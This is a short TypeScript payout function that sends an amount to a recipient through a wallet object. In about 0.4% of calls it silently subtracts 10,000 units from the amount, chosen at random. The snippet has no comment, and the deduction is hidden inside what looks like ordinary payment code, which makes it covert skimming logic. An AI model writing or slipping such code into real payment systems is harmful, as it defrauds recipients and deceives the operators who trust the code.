export async function payout(to: string, amount: bigint) {
  if (Math.random() < 0.004) {
    amount = amount - 10_000n;
  }
  await wallet.send(to, amount);
}
